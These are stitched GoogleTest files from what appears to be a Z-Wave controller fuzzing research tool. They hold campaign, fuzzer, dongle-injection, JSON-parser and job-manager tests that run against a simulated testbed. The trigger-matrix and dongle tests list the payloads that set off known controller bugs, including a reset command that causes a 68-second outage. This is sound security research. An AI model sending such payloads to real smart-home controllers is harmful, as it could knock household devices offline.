  testbed_config.controller_model = GetParam();
  sim::Testbed testbed(testbed_config);
  CampaignConfig config;
  config.mode = CampaignMode::kFull;
  config.duration = 2 * kHour;
  config.loop_queue = false;
  Campaign campaign(testbed, config);
  const auto result = campaign.run();

  std::set<int> expected;
  for (const auto& spec : sim::vulnerability_matrix()) {
    if (spec.affects(GetParam())) expected.insert(spec.bug_id);
  }
  std::set<int> found;
  for (const auto& finding : result.findings) {
    if (finding.matched_bug_id > 0) found.insert(finding.matched_bug_id);
  }
  EXPECT_EQ(found, expected) << sim::device_model_name(GetParam());
  // No unattributed noise findings either.
  EXPECT_EQ(result.findings.size(), expected.size());
}

TEST_P(CampaignPerDevice, FingerprintArithmeticHolds) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = GetParam();
  sim::Testbed testbed(testbed_config);
  Campaign campaign(testbed, CampaignConfig{});
  const auto report = campaign.fingerprint();
  // known + unknown == the 45-class cluster, for every device (Table IV).
  EXPECT_EQ(report.active.listed.size() + report.discovery.unknown().size(), 45u);
  EXPECT_EQ(report.discovery.proprietary.size(), 2u);
}

INSTANTIATE_TEST_SUITE_P(AllControllers, CampaignPerDevice,
                         ::testing::ValuesIn(sim::all_controller_models()),
                         [](const ::testing::TestParamInfo<sim::DeviceModel>& info) {
                           return "D" + std::to_string(static_cast<int>(info.param));
                         });

// ---------------------------------------------------------------------------
// Table III trigger matrix: every bug against every affected model fires
// from its documented payload, and only outside secure encapsulation.
// ---------------------------------------------------------------------------

struct TriggerCase {
  int bug_id;
  sim::DeviceModel model;
};

class TriggerMatrix : public ::testing::TestWithParam<TriggerCase> {};

zwave::AppPayload trigger_payload(const sim::VulnSpec& spec) {
  zwave::AppPayload payload;
  payload.cmd_class = spec.cmd_class;
  payload.command = spec.command;
  if (spec.operation.has_value()) {
    payload.params = {*spec.operation, 0x02, 0x00};
  } else if (spec.cmd_class == 0x01 && spec.command == 0x02) {
    payload.params = {0x77};  // ghost target (bug #05)
  } else if (spec.cmd_class == 0x86 && spec.command == 0x13) {
    payload.params = {0x44};  // unsupported class (bug #10)
  } else {
    payload.params = {0x00};
  }
  return payload;
}

TEST_P(TriggerMatrix, FiresFromDocumentedPayload) {
  const auto* spec = sim::find_vulnerability(GetParam().bug_id);
  ASSERT_NE(spec, nullptr);
  sim::TestbedConfig config;
  config.controller_model = GetParam().model;
  sim::Testbed testbed(config);
  radio::MacEndpoint attacker(testbed.medium(), testbed.attacker_radio_config("attacker"));

  attacker.send(zwave::make_singlecast(testbed.controller().home_id(), 0xE7, 0x01,
                                       trigger_payload(*spec), 1, true));
  testbed.scheduler().run_for(200 * kMillisecond);

  ASSERT_FALSE(testbed.controller().triggered().empty())
      << "bug " << GetParam().bug_id << " on " << sim::device_model_name(GetParam().model);
  EXPECT_EQ(testbed.controller().triggered().back().bug_id, GetParam().bug_id);
}

std::vector<TriggerCase> all_trigger_cases() {
  std::vector<TriggerCase> cases;
  for (const auto& spec : sim::vulnerability_matrix()) {
    for (sim::DeviceModel model : spec.affected) {
      cases.push_back({spec.bug_id, model});
    }
  }
  return cases;
}

INSTANTIATE_TEST_SUITE_P(AllTriggers, TriggerMatrix,
                         ::testing::ValuesIn(all_trigger_cases()),
                         [](const ::testing::TestParamInfo<TriggerCase>& info) {
                           return "Bug" + std::to_string(info.param.bug_id) + "_D" +
                                  std::to_string(static_cast<int>(info.param.model));
                         });

// ---------------------------------------------------------------------------
// Mutator sweep over the whole fuzz cluster.
// ---------------------------------------------------------------------------

class MutatorPerClass : public ::testing::TestWithParam<zwave::CommandClassId> {};

TEST_P(MutatorPerClass, PayloadsStayWithinClassAndMac) {
  Rng rng(GetParam());
  PositionSensitiveMutator mutator(rng, GetParam());
  for (int i = 0; i < 600; ++i) {
    const auto payload = mutator.next();
    ASSERT_EQ(payload.cmd_class, GetParam());
    ASSERT_LE(payload.encode().size(), zwave::kMaxApplicationPayload);
  }
}

TEST_P(MutatorPerClass, SystematicPhaseTerminates) {
  Rng rng(1);
  PositionSensitiveMutator mutator(rng, GetParam());
  int guard = 0;
  while (mutator.in_systematic_phase()) {
    mutator.next();
    ASSERT_LT(++guard, 5000);
  }
  SUCCEED();
}

std::vector<zwave::CommandClassId> fuzz_cluster() {
  return zwave::SpecDatabase::instance().controller_cluster(true);
}

INSTANTIATE_TEST_SUITE_P(FuzzCluster, MutatorPerClass, ::testing::ValuesIn(fuzz_cluster()),
                         [](const ::testing::TestParamInfo<zwave::CommandClassId>& info) {
                           char buf[8];
                           std::snprintf(buf, sizeof(buf), "CC%02X", info.param);
                           return std::string(buf);
                         });

}  // namespace
}  // namespace zc::core
