#include "core/vfuzz.h"

#include <gtest/gtest.h>

namespace zc::core {
namespace {

TEST(VFuzzTest, FindsMacQuirksOnAffectedModel) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;  // 4 one-days
  sim::Testbed testbed(testbed_config);
  VFuzzConfig config;
  config.duration = 4 * kHour;
  VFuzz vfuzz(testbed, config);
  const auto result = vfuzz.run();

  EXPECT_GT(result.packets_sent, 1000u);
  // Within a few virtual hours the MAC mutations reach all four quirks.
  std::size_t quirks = 0;
  for (int id : result.unique_bug_ids) {
    if (id >= 100) ++quirks;
  }
  EXPECT_GE(quirks, 3u);
}

TEST(VFuzzTest, PatchedModelsYieldNothing) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD3_NortekHusbzb1;  // patched
  sim::Testbed testbed(testbed_config);
  VFuzzConfig config;
  config.duration = 2 * kHour;
  VFuzz vfuzz(testbed, config);
  const auto result = vfuzz.run();
  std::size_t quirks = 0;
  for (int id : result.unique_bug_ids) {
    if (id >= 100) ++quirks;
  }
  EXPECT_EQ(quirks, 0u);
}

TEST(VFuzzTest, ReportsWholeRangeCoverage) {
  sim::Testbed testbed(sim::TestbedConfig{});
  VFuzz vfuzz(testbed, VFuzzConfig{.duration = kMinute});
  const auto result = vfuzz.run();
  EXPECT_EQ(result.cmdcl_space, 256u);  // Table V: VFuzz covers 256/256
  EXPECT_EQ(result.cmd_space, 256u);
}

TEST(VFuzzTest, DedupRegeneratesDuplicateFrames) {
  auto run_once = [](bool dedup) {
    sim::TestbedConfig testbed_config;
    testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
    sim::Testbed testbed(testbed_config);
    VFuzzConfig config;
    config.duration = 4 * kHour;
    config.dedup = dedup;
    VFuzz vfuzz(testbed, config);
    return vfuzz.run();
  };
  const auto with_dedup = run_once(true);
  const auto without = run_once(false);
  // Regeneration happens inside the inter-packet gap, so the packet budget
  // is identical either way; and with the generator's wide random space
  // producing no byte-identical frames on this seed, dedup must be a
  // strict no-op — never a behavior change.
  EXPECT_EQ(without.dedup_skips, 0u);
  EXPECT_EQ(with_dedup.packets_sent, without.packets_sent);
  EXPECT_EQ(with_dedup.unique_bug_ids, without.unique_bug_ids);
}

TEST(VFuzzTest, DeterministicForSeed) {
  auto run_once = [] {
    sim::TestbedConfig testbed_config;
    testbed_config.controller_model = sim::DeviceModel::kD2_SilabsUzb7;
    testbed_config.seed = 555;
    sim::Testbed testbed(testbed_config);
    VFuzzConfig config;
    config.duration = kHour;
    config.seed = 12345;
    VFuzz vfuzz(testbed, config);
    const auto result = vfuzz.run();
    return std::make_pair(result.packets_sent, result.unique_bug_ids);
  };
  EXPECT_EQ(run_once(), run_once());
}

}  // namespace
}  // namespace zc::core
