#include "core/dongle.h"

#include <gtest/gtest.h>

#include "sim/testbed.h"

namespace zc::core {
namespace {

TEST(DongleTest, ConfigurationValidation) {
  sim::Testbed testbed(sim::TestbedConfig{});
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  EXPECT_TRUE(dongle.configuration_valid());
}

TEST(DongleTest, CapturesPipelineStages) {
  sim::TestbedConfig config;
  config.slave_report_interval = 5 * kSecond;
  sim::Testbed testbed(config);
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  dongle.start_capture();
  dongle.run_for(15 * kSecond);
  ASSERT_FALSE(dongle.captures().empty());
  const auto& captured = dongle.captures().front();
  // Fig. 4 pipeline: raw bits counted, hex rendered, frame decoded.
  EXPECT_GT(captured.raw_bit_count, 100u);
  EXPECT_FALSE(captured.hex.empty());
  ASSERT_TRUE(captured.frame.has_value());
  EXPECT_EQ(captured.frame->home_id, testbed.controller().home_id());
}

TEST(DongleTest, InjectionReachesController) {
  sim::Testbed testbed(sim::TestbedConfig{});
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  zwave::AppPayload nop = zwave::make_nop();
  dongle.send_app(testbed.controller().home_id(), 0xE7, 0x01, nop);
  dongle.run_for(100 * kMillisecond);
  EXPECT_GE(testbed.controller().stats().frames_received, 1u);
  EXPECT_EQ(dongle.injected(), 1u);
}

TEST(DongleTest, AwaitAckRoundTrip) {
  sim::Testbed testbed(sim::TestbedConfig{});
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  const auto home = testbed.controller().home_id();
  dongle.send_app(home, 0xE7, 0x01, zwave::make_nop());
  EXPECT_TRUE(dongle.await_ack(home, 0x01, 0xE7, 500 * kMillisecond));
}

TEST(DongleTest, AwaitAckTimesOutAgainstDeadController) {
  sim::Testbed testbed(sim::TestbedConfig{});
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  const auto home = testbed.controller().home_id();
  // Trigger bug 7: 68-second outage.
  zwave::AppPayload reset;
  reset.cmd_class = 0x5A;
  reset.command = 0x01;
  dongle.send_app(home, 0xE7, 0x01, reset);
  dongle.run_for(200 * kMillisecond);
  const SimTime before = testbed.scheduler().now();
  dongle.send_app(home, 0xE7, 0x01, zwave::make_nop());
  EXPECT_FALSE(dongle.await_ack(home, 0x01, 0xE7, 300 * kMillisecond));
  EXPECT_GE(testbed.scheduler().now() - before, 300 * kMillisecond);
}

TEST(DongleTest, AwaitFramePredicateFilters) {
  sim::Testbed testbed(sim::TestbedConfig{});
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  const auto home = testbed.controller().home_id();
  zwave::AppPayload version_get;
  version_get.cmd_class = 0x86;
  version_get.command = 0x11;
  dongle.send_app(home, 0xE7, 0x01, version_get);
  const auto report = dongle.await_frame(
      [&](const zwave::MacFrame& frame) {
        const auto app = zwave::decode_app_payload(frame.payload);
        return app.ok() && app.value().cmd_class == 0x86 && app.value().command == 0x12;
      },
      500 * kMillisecond);
  ASSERT_TRUE(report.has_value());
  EXPECT_EQ(report->src, 0x01);
}

}  // namespace
}  // namespace zc::core
