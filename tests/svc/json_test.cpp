// Strictness contract of the service JSON codec (svc/json.h): the parser
// accepts exactly the RFC 8259 grammar, rejects everything a lenient
// library would guess at (trailing garbage, duplicate keys, raw control
// characters, lone surrogates, nesting bombs), and as_u64 applies the
// CLI's parse_count rules to wire numbers — no signs, fractions,
// exponents, leading zeros or 2^64 overflow sneaking in as "close enough".
#include <gtest/gtest.h>

#include <string>

#include "svc/json.h"

namespace zc::svc {
namespace {

TEST(JsonParseTest, ObjectRoundTripPreservesOrderAndTypes) {
  const auto value = parse_json(
      R"({"op":"submit","trials":3,"telemetry":true,"name":"a\nb","none":null,"list":[1,"x"]})");
  ASSERT_TRUE(value.has_value());
  ASSERT_EQ(value->type, JsonValue::Type::kObject);
  ASSERT_EQ(value->members.size(), 6u);
  EXPECT_EQ(value->members[0].first, "op");
  EXPECT_EQ(value->members[1].first, "trials");

  EXPECT_EQ(value->find("op")->string_value, "submit");
  EXPECT_EQ(value->find("trials")->number, "3");
  EXPECT_TRUE(value->find("telemetry")->bool_value);
  EXPECT_EQ(value->find("name")->string_value, "a\nb");
  EXPECT_EQ(value->find("none")->type, JsonValue::Type::kNull);
  ASSERT_EQ(value->find("list")->elements.size(), 2u);
  EXPECT_EQ(value->find("list")->elements[1].string_value, "x");
  EXPECT_EQ(value->find("missing"), nullptr);
}

TEST(JsonParseTest, NumberLexemesAreKeptVerbatim) {
  const auto value = parse_json(R"({"a":0,"b":-2.5e3,"c":18446744073709551615})");
  ASSERT_TRUE(value.has_value());
  EXPECT_EQ(value->find("a")->number, "0");
  EXPECT_EQ(value->find("b")->number, "-2.5e3");
  EXPECT_EQ(value->find("c")->number, "18446744073709551615");
}

TEST(JsonParseTest, EscapesDecode) {
  const auto value = parse_json(R"({"s":"q\"b\\s\/\b\f\n\r\tAé"})");
  ASSERT_TRUE(value.has_value());
  EXPECT_EQ(value->find("s")->string_value, "q\"b\\s/\b\f\n\r\tA\xC3\xA9");
}

TEST(JsonParseTest, RejectsMalformedInput) {
  std::string error;
  EXPECT_FALSE(parse_json("", &error).has_value());
  EXPECT_FALSE(parse_json("{", &error).has_value());
  EXPECT_FALSE(parse_json("nope", &error).has_value());
  EXPECT_FALSE(parse_json("{\"a\":1} extra", &error).has_value());
  EXPECT_NE(error.find("trailing garbage"), std::string::npos);
  EXPECT_FALSE(parse_json("{\"a\":1}{\"b\":2}", &error).has_value());
  EXPECT_FALSE(parse_json(R"({"a":1,"a":2})", &error).has_value());
  EXPECT_NE(error.find("duplicate key"), std::string::npos);
  EXPECT_FALSE(parse_json("{\"a\":\"\x01\"}", &error).has_value());
  EXPECT_FALSE(parse_json(R"({"a":"\ud800"})", &error).has_value());
  EXPECT_FALSE(parse_json(R"({"a":tru})", &error).has_value());
  EXPECT_FALSE(parse_json(R"({"a":01})", &error).has_value());
  EXPECT_FALSE(parse_json(R"({"a":1.})", &error).has_value());
  EXPECT_FALSE(parse_json(R"({"a":+1})", &error).has_value());
}

TEST(JsonParseTest, RejectsNestingBombs) {
  std::string bomb;
  for (int i = 0; i < 64; ++i) bomb += '[';
  for (int i = 0; i < 64; ++i) bomb += ']';
  std::string error;
  EXPECT_FALSE(parse_json(bomb, &error).has_value());
  EXPECT_NE(error.find("nesting too deep"), std::string::npos);
  // A depth well inside the cap parses fine.
  EXPECT_TRUE(parse_json("[[[[[[[[1]]]]]]]]").has_value());
}

TEST(JsonU64Test, AcceptsBareNaturals) {
  std::uint64_t out = 0;
  ASSERT_TRUE(as_u64(*parse_json(R"({"n":0})")->find("n"), &out));
  EXPECT_EQ(out, 0u);
  ASSERT_TRUE(as_u64(*parse_json(R"({"n":18446744073709551615})")->find("n"), &out));
  EXPECT_EQ(out, 18446744073709551615ull);
}

TEST(JsonU64Test, RejectsEverythingParseCountWould) {
  std::uint64_t out = 0;
  // Sloppy coercions a lenient parser would wave through.
  EXPECT_FALSE(as_u64(*parse_json(R"({"n":-1})")->find("n"), &out));
  EXPECT_FALSE(as_u64(*parse_json(R"({"n":1.0})")->find("n"), &out));
  EXPECT_FALSE(as_u64(*parse_json(R"({"n":1e3})")->find("n"), &out));
  EXPECT_FALSE(as_u64(*parse_json(R"({"n":18446744073709551616})")->find("n"), &out));
  EXPECT_FALSE(as_u64(*parse_json(R"({"n":"7"})")->find("n"), &out));  // wrong type
  EXPECT_FALSE(as_u64(*parse_json(R"({"n":true})")->find("n"), &out));
}

TEST(JsonWriteTest, QuoteEscapesRoundTrip) {
  const std::string nasty = "a\"b\\c\nd\te\x01f";
  const auto back = parse_json("{" + json_quote("k") + ":" + json_quote(nasty) + "}");
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->find("k")->string_value, nasty);
}

}  // namespace
}  // namespace zc::svc
