// JobManager lifecycle + the service-mode determinism contract
// (svc/jobs.h, docs/SERVICE.md): a (device, seed, fuzzer, trials) job run
// through the daemon's control plane — queued behind other jobs,
// multiplexed over the shared executor, even paused and resumed mid-run —
// produces packets, bugs, merged metrics/trace and findings-journal bytes
// identical to the one-shot `zc trials` path.
//
// Scheduling windows are made deterministic with the shard_gate test hook:
// shards block at their attempt boundary until the test has observed the
// state it needs (both jobs in flight, a pause issued), so no assertion
// here depends on host timing.
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "common/clock.h"
#include "core/parallel.h"
#include "store/journal.h"
#include "svc/jobs.h"

namespace zc::svc {
namespace {

using namespace std::chrono_literals;

constexpr auto kWait = std::chrono::milliseconds(60000);

JobSpec quick_spec(std::uint64_t seed, std::uint64_t trials,
                   std::uint64_t duration_ms = 300000) {
  JobSpec spec;
  spec.device = sim::DeviceModel::kD4_AeotecZw090;
  spec.fuzzer = "psm";
  spec.seed = seed;
  spec.trials = trials;
  spec.duration_ms = duration_ms;
  spec.telemetry = true;
  return spec;
}

core::FuzzerFamily family_of(const std::string& fuzzer) {
  if (fuzzer == "cov") return core::FuzzerFamily::kCov;
  if (fuzzer == "vfuzz") return core::FuzzerFamily::kVfuzz;
  return core::FuzzerFamily::kPsm;
}

/// The one-shot `zc trials` equivalent of a JobSpec — config derivation
/// mirrors the daemon's build_shards exactly, so the two paths are
/// byte-comparable.
core::ParallelTrialReport one_shot(const JobSpec& spec,
                                   store::FindingsJournal* journal = nullptr) {
  sim::TestbedConfig testbed;
  testbed.controller_model = spec.device;
  testbed.seed = spec.seed;

  core::CampaignConfig campaign;
  campaign.seed = spec.seed;
  campaign.loop_queue = false;
  if (spec.duration_ms != 0) {
    campaign.duration = static_cast<SimTime>(spec.duration_ms) * kMillisecond;
  }

  core::ParallelConfig parallel;
  parallel.jobs = 2;
  parallel.collect_telemetry = spec.telemetry;
  parallel.fuzzer = family_of(spec.fuzzer);
  parallel.journal = journal;
  return core::run_trials_parallel(testbed, campaign, spec.trials, parallel);
}

std::string temp_path(const char* name) { return ::testing::TempDir() + name; }

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

/// Everything the determinism contract promises, in one comparison:
/// summary fields, merged aggregates, merged metrics JSON, merged trace.
void expect_reports_equal(const core::ParallelTrialReport& service,
                          const core::ParallelTrialReport& baseline) {
  EXPECT_EQ(service.summary.trials, baseline.summary.trials);
  EXPECT_EQ(service.summary.union_bug_ids, baseline.summary.union_bug_ids);
  EXPECT_EQ(service.summary.per_trial_unique, baseline.summary.per_trial_unique);
  EXPECT_EQ(service.summary.first_finding_at, baseline.summary.first_finding_at);
  EXPECT_EQ(service.summary.total_packets, baseline.summary.total_packets);
  EXPECT_EQ(service.inconclusive_tests, baseline.inconclusive_tests);
  EXPECT_EQ(service.retried_injections, baseline.retried_injections);
  EXPECT_EQ(service.recovery_episodes, baseline.recovery_episodes);
  EXPECT_EQ(service.merged_metrics().to_json(), baseline.merged_metrics().to_json());
  EXPECT_EQ(service.merged_trace_jsonl(), baseline.merged_trace_jsonl());
}

/// Opens a test gate on scope exit, so a failed ASSERT can never leave
/// executor workers parked inside the gate (the manager destructor would
/// then wait on their shards forever).
struct GateRelease {
  std::atomic<bool>& flag;
  ~GateRelease() { flag.store(true); }
};

/// Polls a job's status until `predicate` holds (the status API has no
/// waiter for sub-state conditions like shards_done).
template <typename Predicate>
bool poll_status(JobManager& manager, const std::string& id, Predicate predicate) {
  const auto deadline = std::chrono::steady_clock::now() + kWait;
  while (std::chrono::steady_clock::now() < deadline) {
    const auto status = manager.status(id);
    if (status.has_value() && predicate(*status)) return true;
    std::this_thread::sleep_for(2ms);
  }
  return false;
}

TEST(JobManagerTest, SubmitRunsToDoneAndMatchesOneShot) {
  const std::string journal_path = temp_path("svc_jobs_simple.zcj");
  const std::string baseline_path = temp_path("svc_jobs_simple_base.zcj");
  std::remove(journal_path.c_str());
  std::remove(baseline_path.c_str());

  const JobSpec spec = quick_spec(0xA11CE, 2);

  store::FindingsJournal baseline_journal;
  ASSERT_TRUE(baseline_journal.open(baseline_path));
  const core::ParallelTrialReport baseline = one_shot(spec, &baseline_journal);
  baseline_journal.close();

  obs::MetricsRegistry metrics;
  {
    store::FindingsJournal journal;
    ASSERT_TRUE(journal.open(journal_path));
    JobManager::Config config;
    config.executor_workers = 2;
    config.journal = &journal;
    config.metrics = &metrics;
    JobManager manager(config);

    std::string error;
    const std::string id = manager.submit(spec, &error);
    ASSERT_FALSE(id.empty()) << error;
    ASSERT_TRUE(manager.wait(id, kWait));

    const auto status = manager.status(id);
    ASSERT_TRUE(status.has_value());
    EXPECT_EQ(status->state, JobState::kDone);
    EXPECT_EQ(status->shards_done, 2u);
    EXPECT_EQ(status->packets, baseline.summary.total_packets);
    EXPECT_EQ(status->bugs, baseline.summary.union_bug_ids.size());

    const auto report = manager.report(id);
    ASSERT_TRUE(report.has_value());
    expect_reports_equal(*report, baseline);

    // Late subscription replays the full event history, ending terminal.
    std::vector<std::string> events;
    ASSERT_TRUE(manager.subscribe(id, [&events](const std::string& line) {
      events.push_back(line);
      return true;
    }));
    ASSERT_GE(events.size(), 3u);  // queued, running, shard x2, done
    EXPECT_NE(events.front().find("\"state\":\"queued\""), std::string::npos);
    EXPECT_NE(events.back().find("\"event\":\"done\""), std::string::npos);
    journal.close();
  }

  EXPECT_EQ(read_file(journal_path), read_file(baseline_path));
  EXPECT_EQ(metrics.value(obs::MetricId::kSvcJobsSubmitted), 1u);
  EXPECT_EQ(metrics.value(obs::MetricId::kSvcJobsCompleted), 1u);
  std::remove(journal_path.c_str());
  std::remove(baseline_path.c_str());
}

// The acceptance test: the target job goes through a pause/replay-resume
// cycle while a second job runs beside it on the shared executor, and its
// results and journal bytes still match the one-shot path exactly.
TEST(JobManagerTest, PauseResumeUnderMultiplexingIsByteIdentical) {
  const std::string journal_path = temp_path("svc_jobs_mux.zcj");
  const std::string baseline_path = temp_path("svc_jobs_mux_base.zcj");
  std::remove(journal_path.c_str());
  std::remove(baseline_path.c_str());

  const JobSpec target_spec = quick_spec(0x7A66E7, 3);
  const JobSpec decoy_spec = quick_spec(0xDEC0D, 4, 600000);

  store::FindingsJournal baseline_journal;
  ASSERT_TRUE(baseline_journal.open(baseline_path));
  const core::ParallelTrialReport baseline = one_shot(target_spec, &baseline_journal);
  baseline_journal.close();

  std::atomic<std::size_t> in_flight{0};   // workers that reached the gate
  std::atomic<bool> gate_open{false};      // set once the pause has landed
  std::optional<core::ParallelTrialReport> service_report;
  std::size_t peak = 0;
  {
    store::FindingsJournal journal;
    ASSERT_TRUE(journal.open(journal_path));
    JobManager::Config config;
    config.max_parallel_jobs = 2;
    config.executor_workers = 2;
    // Let each job use both pool workers: default_jobs() is 1 on a 1-core
    // host, which would cap every job at one concurrent shard and starve
    // the two-shards-in-flight rendezvous below.
    config.workers_per_job = 2;
    config.journal = &journal;
    config.shard_gate = [&in_flight, &gate_open](std::size_t shard_id, std::size_t,
                                                 const core::CancellationToken&) {
      // Phase 1: hold the first shards until two are physically on
      // workers at once — the pool really is multiplexing, not
      // serializing.
      in_flight.fetch_add(1);
      while (in_flight.load() < 2 && !gate_open.load()) {
        std::this_thread::sleep_for(1ms);
      }
      // Phase 2: later shards wait for the test to issue the pause, so
      // the pause window always lands between shard 0 and shard 1.
      if (shard_id >= 1) {
        while (!gate_open.load()) std::this_thread::sleep_for(1ms);
      }
    };
    JobManager manager(config);
    // Constructed after the manager, so a failed ASSERT opens the gate
    // before the manager's destructor waits on the parked shards.
    GateRelease release{gate_open};

    std::string error;
    const std::string target = manager.submit(target_spec, &error);
    ASSERT_FALSE(target.empty()) << error;
    const std::string decoy = manager.submit(decoy_spec, &error);
    ASSERT_FALSE(decoy.empty()) << error;

    ASSERT_TRUE(manager.wait_state(target, JobState::kRunning, kWait));
    ASSERT_TRUE(manager.wait_state(decoy, JobState::kRunning, kWait));

    // Let the target's shard 0 settle, then pause while shards 1-2 are
    // still pending; cancel the decoy (a cancelled job never commits, so
    // the shared journal ends up holding exactly the target's records).
    ASSERT_TRUE(poll_status(manager, target,
                            [](const JobStatus& s) { return s.shards_done >= 1; }));
    ASSERT_TRUE(manager.pause(target, &error)) << error;
    ASSERT_TRUE(manager.cancel(decoy, &error)) << error;
    gate_open.store(true);

    ASSERT_TRUE(manager.wait_state(target, JobState::kPaused, kWait));
    ASSERT_TRUE(manager.wait_state(decoy, JobState::kCancelled, kWait));

    const auto paused = manager.status(target);
    ASSERT_TRUE(paused.has_value());
    EXPECT_GE(paused->shards_done, 1u);
    EXPECT_LT(paused->shards_done, 3u);  // the pause landed mid-job

    ASSERT_TRUE(manager.resume(target, ResumeMode::kReplay, &error)) << error;
    ASSERT_TRUE(manager.wait(target, kWait));
    const auto status = manager.status(target);
    ASSERT_TRUE(status.has_value());
    EXPECT_EQ(status->state, JobState::kDone);

    const auto report = manager.report(target);
    ASSERT_TRUE(report.has_value());
    service_report = *report;
    peak = manager.peak_active_jobs();
    journal.close();
  }

  EXPECT_GE(peak, 2u);  // both jobs held kRunning simultaneously
  expect_reports_equal(*service_report, baseline);
  EXPECT_EQ(read_file(journal_path), read_file(baseline_path));
  std::remove(journal_path.c_str());
  std::remove(baseline_path.c_str());
}

TEST(JobManagerTest, CheckpointModeResumeIsDeterministic) {
  // Checkpoint-mode resume restarts interrupted shards from their pause
  // snapshot — a shorter execution than an uninterrupted run, so it is
  // deliberately NOT byte-comparable to the one-shot baseline
  // (docs/SERVICE.md "Determinism contract"). What it promises is
  // determinism of the recovery itself: the identical pause →
  // checkpoint-resume sequence reproduces byte-identical reports and
  // journal files every time.
  const JobSpec spec = quick_spec(0xC4EC, 2);

  auto run_once = [&spec](const char* journal_name)
      -> std::pair<std::optional<core::ParallelTrialReport>, std::string> {
    const std::string path = temp_path(journal_name);
    std::remove(path.c_str());
    store::FindingsJournal journal;
    EXPECT_TRUE(journal.open(path));
    std::atomic<bool> gate_open{false};
    JobManager::Config config;
    config.executor_workers = 2;
    config.journal = &journal;
    // Hold every shard at its start; the pause then lands before any
    // shard settles, at a point fixed by the gate, not by host timing.
    config.shard_gate = [&gate_open](std::size_t, std::size_t,
                                     const core::CancellationToken&) {
      while (!gate_open.load()) std::this_thread::sleep_for(1ms);
    };
    JobManager manager(config);
    GateRelease release{gate_open};  // after the manager: opens before its dtor

    std::string error;
    const std::string id = manager.submit(spec, &error);
    EXPECT_FALSE(id.empty()) << error;
    EXPECT_TRUE(manager.wait_state(id, JobState::kRunning, kWait));
    EXPECT_TRUE(manager.pause(id, &error)) << error;
    gate_open.store(true);
    EXPECT_TRUE(manager.wait_state(id, JobState::kPaused, kWait));

    const auto paused = manager.status(id);
    EXPECT_TRUE(paused.has_value());
    if (paused.has_value()) {
      EXPECT_EQ(paused->shards_done, 0u);  // nothing ran to its own end
    }

    EXPECT_TRUE(manager.resume(id, ResumeMode::kCheckpoint, &error)) << error;
    EXPECT_TRUE(manager.wait(id, kWait));
    auto report = manager.report(id);
    EXPECT_TRUE(report.has_value());
    manager.shutdown_and_checkpoint();
    journal.close();
    return {std::move(report), path};
  };

  auto [report_one, path_one] = run_once("svc_jobs_ckpt_r1.zcj");
  auto [report_two, path_two] = run_once("svc_jobs_ckpt_r2.zcj");
  ASSERT_TRUE(report_one.has_value());
  ASSERT_TRUE(report_two.has_value());
  expect_reports_equal(*report_one, *report_two);
  EXPECT_EQ(read_file(path_one), read_file(path_two));
  std::remove(path_one.c_str());
  std::remove(path_two.c_str());
}

TEST(JobManagerTest, CancelRunningJobCommitsNothing) {
  const std::string journal_path = temp_path("svc_jobs_cancel.zcj");
  std::remove(journal_path.c_str());

  std::atomic<bool> gate_open{false};
  {
    store::FindingsJournal journal;
    ASSERT_TRUE(journal.open(journal_path));
    JobManager::Config config;
    config.executor_workers = 2;
    config.journal = &journal;
    config.shard_gate = [&gate_open](std::size_t, std::size_t,
                                     const core::CancellationToken&) {
      while (!gate_open.load()) std::this_thread::sleep_for(1ms);
    };
    JobManager manager(config);
    GateRelease release{gate_open};  // after the manager: opens before its dtor

    std::string error;
    const std::string id = manager.submit(quick_spec(0xCA2CE1, 2), &error);
    ASSERT_FALSE(id.empty()) << error;
    ASSERT_TRUE(manager.wait_state(id, JobState::kRunning, kWait));
    ASSERT_TRUE(manager.cancel(id, &error)) << error;
    gate_open.store(true);
    ASSERT_TRUE(manager.wait_state(id, JobState::kCancelled, kWait));

    EXPECT_FALSE(manager.report(id).has_value());
    // Terminal is terminal: no resume, no second cancel.
    EXPECT_FALSE(manager.resume(id, ResumeMode::kReplay, &error));
    EXPECT_FALSE(manager.cancel(id, &error));
    EXPECT_NE(error.find("cancelled"), std::string::npos);
    journal.close();
  }

  store::FindingsJournal reopened;
  ASSERT_TRUE(reopened.open(journal_path));
  EXPECT_EQ(reopened.records().size(), 0u);
  reopened.close();
  std::remove(journal_path.c_str());
}

TEST(JobManagerTest, QueuedJobsRespectMaxParallelAndCancelInQueue) {
  std::atomic<bool> gate_open{false};
  JobManager::Config config;
  config.max_parallel_jobs = 1;
  config.executor_workers = 2;
  config.shard_gate = [&gate_open](std::size_t, std::size_t,
                                   const core::CancellationToken&) {
    while (!gate_open.load()) std::this_thread::sleep_for(1ms);
  };
  JobManager manager(config);
  GateRelease release{gate_open};  // after the manager: opens before its dtor

  std::string error;
  const std::string first = manager.submit(quick_spec(0x0B1, 1), &error);
  const std::string second = manager.submit(quick_spec(0x0B2, 1), &error);
  ASSERT_FALSE(first.empty());
  ASSERT_FALSE(second.empty());

  ASSERT_TRUE(manager.wait_state(first, JobState::kRunning, kWait));
  EXPECT_EQ(manager.status(second)->state, JobState::kQueued);

  // A queued job cancels instantly — it never touches the executor.
  ASSERT_TRUE(manager.cancel(second, &error)) << error;
  EXPECT_EQ(manager.status(second)->state, JobState::kCancelled);

  gate_open.store(true);
  ASSERT_TRUE(manager.wait(first, kWait));
  EXPECT_EQ(manager.status(first)->state, JobState::kDone);
